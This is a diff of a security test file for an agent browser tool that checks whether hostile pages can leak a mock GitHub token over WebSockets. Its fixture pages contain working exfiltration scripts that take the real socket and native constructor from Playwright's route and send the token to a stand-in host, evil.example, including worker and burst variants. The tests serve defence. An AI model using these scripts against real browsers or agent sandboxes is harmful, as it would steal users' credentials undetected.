@@ -1,33 +1,56 @@
 // In the user's Chrome (no egress proxy) Playwright's WebSocket route is all that judges a page's sockets, and a page
-// can reach the browser's own WebSocket behind it (the route's stand-in keeps the real socket on `_ws`). Found by an
-// attack review: a page that opened a socket before a sensitive read sent what it saw on the real one after it, and
-// took the native constructor from it to open fresh sockets carrying it in their URL, every 200 ms, none of it in
-// the audit. No CDP hook can hold a WebSocket (Chromium 156); the tab's Network domain reports each handshake and
-// message as it goes (browser/nativeSockets.ts): the first one past the route is in the audit as sent although
-// refused, and the tab is stopped, so nothing more leaves. That first one is the residual (a todo test). Assertions
-// on what the attacker's server received.
+// can reach the browser's own WebSocket behind it (the route's stand-in keeps the real socket on `_ws`). Found by
+// attack reviews: a page that opened a socket before a sensitive read sent what it saw on the real one after it, and
+// took the native constructor from it to open fresh sockets carrying it in their URL, every 200 ms (or every 4 ms),
+// none of it in the audit. No CDP hook can hold a WebSocket (Chromium 156); the tab's Network domain reports each
+// handshake and message as it goes (browser/nativeSockets.ts): each one past the route is in the audit as sent
+// although refused, and the first stops the renderer that sent it, then the tab. What leaves before that is the
+// residual (todo), and so are a dedicated worker's own sockets (no session of tabward's watches a worker's network).
+// Assertions on what the attacker's server received and on the audit.
 
 import assert from 'node:assert/strict';
 import { after, before, describe, test } from 'node:test';
 import { WebSocketServer } from 'ws';
 import { startUserChrome, type UserChrome } from '../../src/demo/yourChrome.ts';
 import { type Fixture, html, startFixture, testChromeArgs } from '../helpers/fixtureServer.ts';
-import { type InProcessBrowser, type InProcessMcp, startInProcess } from '../helpers/inProcessMcp.ts';
+import { startInProcess } from '../helpers/inProcessMcp.ts';
 import { waitFor } from '../helpers/waitFor.ts';
 
 const token = 'ghp_zzSharedMockToken4242';
 
-describe("the user's Chrome: a page's socket after a sensitive read", () => {
+/**
+ * A page that opens a socket through the route before any read, takes the real socket and its constructor from it,
+ * then frames the sensitive page (the read); `tick` runs every `every` ms once it has the token (`seen`).
+ */
+const leakingPage = (
+  name: string,
+  tick: string,
+  every: number,
+  sensitive: string,
+) => `<title>${name}</title><script>
+  const evil = location.origin.replace('https', 'wss').replace(/\\/\\/[^:]+:/, '//evil.example:');
+  const socket = new WebSocket(evil + '/${name}');
+  let raw, Native, seen = '', n = 0;
+  addEventListener('message', (e) => { if (String(e.data).includes('ghp_')) seen = e.data; });
+  socket.onopen = () => {
+    socket.send('hello ${name}');
+    const grab = setInterval(() => { if (socket._ws) { raw = socket._ws; Native = raw.constructor; clearInterval(grab); } }, 10);
+    setTimeout(() => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(sensitive)}; document.body.append(f); }, 300);
+  };
+  setInterval(() => { if (!seen || !raw) return; n++; ${tick} }, ${every});
+</script>`;
+
+describe("the user's Chrome: a page's socket past the route after a sensitive read", () => {
   let site: Fixture;
   let chrome: UserChrome;
-  let tabward: InProcessBrowser | undefined;
-  let mcp: InProcessMcp | undefined;
-  const messages: { path: string; data: string }[] = [];
+  const messages: string[] = [];
   const upgrades: string[] = [];
   const url = (host: string, path: string) => site.url(host, path);
   const quietly = (ms: number) => new Promise((done) => setTimeout(done, ms));
+  const leaked: Record<string, string[]> = {};
 
   before(async () => {
+    const sensitive = () => url('github.com', '/settings/tokens');
     site = await startFixture(
       {
         // The sensitive page tells its parent what it shows: the stand-in for a page that watched the read.
@@ -36,34 +59,50 @@ describe("the user's Chrome: a page's socket after a sensitive read", () => {
             res,
             `<title>Tokens</title><p id="t">${token}</p><script>parent.postMessage(document.getElementById('t').textContent, '*')</script>`,
           ),
-        '/talking': (_req, _body, res) =>
+        '/loop': (_req, _body, res) =>
           html(
             res,
-            `<title>Talking</title><p>talking</p><script>
-            const evil = location.origin.replace('https', 'wss').replace('news.example', 'evil.example');
-            const socket = new WebSocket(evil + '/socket');
-            let seen = '';
-            addEventListener('message', (e) => { seen = e.data; });
-            let raw, Native;
-            socket.onopen = () => {
-              socket.send('hello');
-              // The mock opens before its real socket connects: take the real one once it is there.
-              const grab = setInterval(() => { if (socket._ws) { raw = socket._ws; Native = raw.constructor; clearInterval(grab); } }, 10);
-              // Only once the socket is open: then the sensitive page is framed (the read).
-              setTimeout(() => {
-                const f = document.createElement('iframe');
-                f.src = ${JSON.stringify(url('github.com', '/settings/tokens'))};
-                document.body.append(f);
-              }, 300);
-            };
-            let n = 0;
-            setInterval(() => {
-              if (!seen) return;
-              n++;
-              try { raw.send('raw ' + n + ' ' + seen) } catch (e) {}
-              try { new Native(evil + '/fresh?n=' + n + '&d=' + encodeURIComponent(seen)) } catch (e) {}
-              if (n === 10) try { socket.send('mock ' + n + ' ' + seen) } catch (e) {}
-            }, 200);
+            leakingPage(
+              'loop',
+              `try { raw.send('raw ' + n + ' ' + seen) } catch (e) {} try { new Native(evil + '/fresh?n=' + n + '&d=' + seen) } catch (e) {}`,
+              200,
+              sensitive(),
+            ),
+          ),
+        // One tick: a message and three handshakes at once.
+        '/burst': (_req, _body, res) =>
+          html(
+            res,
+            leakingPage(
+              'burst',
+              `if (n > 1) return; raw.send('raw ' + seen); for (const b of ['b1', 'b2', 'b3']) new Native(evil + '/' + b + '?d=' + seen);`,
+              200,
+              sensitive(),
+            ),
+          ),
+        // A handshake every 4 ms until the tab is stopped.
+        '/stream': (_req, _body, res) =>
+          html(
+            res,
+            leakingPage(
+              'stream',
+              `try { new Native(evil + '/s?n=' + n + '&d=' + seen) } catch (e) {}`,
+              4,
+              sensitive(),
+            ),
+          ),
+        // A dedicated worker with a socket of its own, told the token once.
+        '/worker': (_req, _body, res) =>
+          html(
+            res,
+            `<title>Worker</title><script>
+            const evil = location.origin.replace('https', 'wss').replace(/\\/\\/[^:]+:/, '//evil.example:');
+            const w = new Worker(URL.createObjectURL(new Blob([
+              "const s = new WebSocket(" + JSON.stringify(evil + '/worker') + "); let seen = ''; s.onopen = () => s.send('hello worker');" +
+              "onmessage = (e) => { seen = e.data; }; let n = 0; setInterval(() => { if (!seen) return; n++; try { s.send('w ' + n + ' ' + seen) } catch (x) {} }, 200);"
+            ])));
+            addEventListener('message', (e) => { if (String(e.data).includes('ghp_')) w.postMessage(e.data); });
+            setTimeout(() => { const f = document.createElement('iframe'); f.src = ${JSON.stringify(sensitive())}; document.body.append(f); }, 1500);
             </script>`,
           ),
         '/mine': (_req, _body, res) => html(res, '<title>Mine</title><p>the user’s page</p>'),
@@ -74,54 +113,90 @@ describe("the user's Chrome: a page's socket after a sensitive read", () => {
     site.onUpgrade((req, socket, head) => {
       upgrades.push(`${req.headers.host} ${req.url}`);
       sockets.handleUpgrade(req, socket, head, (ws) =>
-        ws.on('message', (data) =>
-          messages.push({ path: `${req.headers.host} ${req.url}`, data: String(data) }),
-        ),
+        ws.on('message', (data) => messages.push(`${req.headers.host} ${req.url}: ${String(data)}`)),
       );
     });
     chrome = await startUserChrome({ chromeArgs: testChromeArgs, openTab: url('example.com', '/mine') });
   });
   after(async () => {
-    await mcp?.close();
-    await tabward?.close();
     await chrome?.close();
     await site?.close();
   });
 
-  const leaks = () => [
-    ...messages.filter((m) => m.data.includes(token)).map((m) => `${m.path}: ${m.data}`),
-    ...upgrades.filter((line) => line.includes(token)),
-  ];
-
-  test('a page that reaches past the socket route after a sensitive read sends once at most: told, and its tab stopped', async () => {
-    tabward = await startInProcess({ mode: 'shared', wsEndpoint: chrome.wsEndpoint });
-    mcp = await tabward.connect();
+  /** Opens `path` as an agent tab, lets it work, and says what left with the token and what the audit says left. */
+  async function scenario(path: string) {
+    const [m0, u0] = [messages.length, upgrades.length];
+    const tabward = await startInProcess({ mode: 'shared', wsEndpoint: chrome.wsEndpoint });
+    const mcp = await tabward.connect();
     mcp.human.policy = (message) => ({ decision: /did not predict/.test(message) ? 'reject' : 'approve' });
-    const opened = await mcp.call('new_page', { url: url('news.example', '/talking') });
-    assert.equal(opened.isError, false, opened.text);
-    await waitFor('the socket says hello', () => messages.some((m) => m.data.startsWith('hello')), {
-      timeoutMs: 20_000,
-    });
-    await quietly(4_000);
-    // One tick of the page's loop (a message and a handshake) may leave before tabward sees it; nothing after.
-    const leaked = leaks();
-    assert.ok(leaked.length <= 2, `evil.example received ${leaked.length}: ${leaked.join(' | ')}`);
-    const told = mcp
-      .audit()
-      .filter(
-        (record) =>
-          record.tool === '(egress)' &&
-          'error' in record &&
-          /sent although refused/.test(String(record.error)),
+    try {
+      const opened = await mcp.call('new_page', { url: url('news.example', path) });
+      assert.equal(opened.isError, false, opened.text);
+      const name = path.slice(1);
+      await waitFor(
+        'the socket says hello',
+        () => messages.slice(m0).some((m) => m.includes(`hello ${name}`)),
+        {
+          timeoutMs: 20_000,
+        },
       );
-    if (leaked.length > 0) assert.ok(told.length > 0, 'what left is not in the audit');
-    const snapshot = await mcp.call('take_snapshot');
-    if (leaked.length > 0) assert.match(snapshot.text, /crashed/, 'the tab that sent it was not stopped');
+      await quietly(4_000);
+      const left = [
+        ...messages.slice(m0).filter((m) => m.includes(token)),
+        ...upgrades.slice(u0).filter((u) => u.includes(token)),
+      ];
+      leaked[name] = left;
+      const told = mcp
+        .audit()
+        .filter(
+          (record) =>
+            record.tool === '(egress)' &&
+            'error' in record &&
+            /sent although refused/.test(String(record.error)),
+        )
+        .map((record) => ('url' in record ? String(record.url) : ''));
+      const snapshot = await mcp.call('take_snapshot');
+      return { left, told, stopped: /crashed/.test(snapshot.text) };
+    } finally {
+      await mcp.close();
+      await tabward.close();
+    }
+  }
+
+  for (const [path, most] of [
+    ['/loop', 2],
+    ['/burst', 4],
+    ['/stream', 8],
+  ] as const)
+    test(`${path}: what goes past the route is told, each one, and the tab is stopped: nothing more leaves`, async () => {
+      const { left, told, stopped } = await scenario(path);
+      assert.ok(left.length <= most, `evil.example received ${left.length}: ${left.join(' | ')}`);
+      if (left.length === 0) return;
+      assert.ok(stopped, 'the tab that sent it was not stopped');
+      // Each handshake that arrived is named in the audit by its path; a message by its socket's.
+      for (const line of left) {
+        const where = /\/[a-z0-9]+(?=[?: ])/.exec(line.split(' ')[1] ?? '')?.[0] ?? '?';
+        assert.ok(
+          told.some((url) => url.includes(where)),
+          `${line} left, and the audit does not say so: ${told.join(' | ')}`,
+        );
+      }
+    });
+
+  test('a dedicated worker’s own socket carries nothing after a sensitive read', {
+    todo: "residual: in the user's Chrome no session of tabward's watches a dedicated worker's network, and no hook holds a WebSocket",
+  }, async () => {
+    const { left } = await scenario('/worker');
+    assert.deepEqual(left, [], 'the token read on github.com reached evil.example');
   });
 
   test('nothing a page saw after a sensitive read reaches another host over a WebSocket', {
-    todo: "residual: in the user's Chrome the first message or handshake a page sends past the socket route leaves before tabward sees it (no CDP hook holds a WebSocket)",
+    todo: "residual: in the user's Chrome what a page sends past the socket route before tabward sees it leaves (no CDP hook holds a WebSocket)",
   }, () => {
-    assert.deepEqual(leaks(), [], 'the token read on github.com reached evil.example');
+    assert.deepEqual(
+      Object.entries(leaked).flatMap(([name, left]) => (name === 'worker' ? [] : left)),
+      [],
+      'the token read on github.com reached evil.example',
+    );
   });
 });
